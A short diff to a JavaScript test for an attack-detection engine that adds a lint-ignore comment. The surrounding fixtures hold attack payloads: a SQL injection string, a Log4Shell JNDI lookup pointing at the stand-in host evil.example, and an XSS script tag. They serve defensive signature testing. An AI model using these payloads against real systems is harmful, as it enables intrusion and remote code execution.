@@ -32,6 +32,7 @@ describe('createDetector: signatures through the engine', () => {
         path: '/login',
         body: { username: 'bob', password: "x' or '1'='1" },
         headers: {
+          // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload is literal text
           'x-api-version': '${jndi:ldap://evil.example/a}',
           cookie: 'theme=<script>alert(1)</script>',
         },
